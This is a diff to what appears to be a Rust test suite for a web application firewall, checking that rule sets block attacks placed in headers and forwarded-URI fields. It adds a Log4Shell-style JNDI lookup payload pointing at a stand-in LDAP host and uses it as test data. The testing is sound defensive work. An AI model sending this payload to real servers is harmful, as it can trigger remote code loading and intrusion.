@@ -63,6 +63,9 @@ use Want::{Deny, DenyFamily, Pass, PassLogged};
 /// A GET request: name, target, host, what is to happen at paranoia level 1 and at 4.
 type Row = (&'static str, &'static str, &'static str, Want, Want);
 
+/// An attack that every rule set here finds in any header.
+pub(crate) const JAVA: &str = "${jndi:ldap://192.0.2.1/a} java.lang.Runtime";
+
 const SHOP: &str = "shop.example";
 
 /// The requests of a small shop's search page, harmless and otherwise.
@@ -134,7 +137,7 @@ pub(crate) fn bytes(suite: &mut Suite, front: &Front<'_>) {
         ),
         (
             "an attack in the second of two headers",
-            Ask::get("/").header("X-Tag", "summer").header("X-Tag", "${jndi:ldap://192.0.2.1/a}"),
+            Ask::get("/").header("X-Tag", "summer").header("X-Tag", JAVA),
             DenyFamily(944),
         ),
         (
@@ -298,8 +301,9 @@ pub(crate) fn spoofing(suite: &mut Suite, front: &Front<'_>) {
     suite.case("a clean URI in X-Forwarded-Uri", || judged(front, spoof(Ask::get(attack)), DenyFamily(941)));
     suite.case("an attack in X-Forwarded-Uri alone", || {
         // Overwritten by the proxy, or a header as any other.
-        let want = if front.forwards { Pass } else { DenyFamily(941) };
-        judged(front, Ask::get("/search?q=apple").header("X-Forwarded-Uri", attack), want)
+        let want = if front.forwards { Pass } else { DenyFamily(944) };
+        let uri = format!("/search?q={JAVA}");
+        judged(front, Ask::get("/search?q=apple").header("X-Forwarded-Uri", uri), want)
     });
     suite.case("X_Forwarded_Uri and its like", || {
         let ask = Ask::get(attack).header("X_Forwarded_Uri", "/").header("X.Forwarded.Uri", "/");
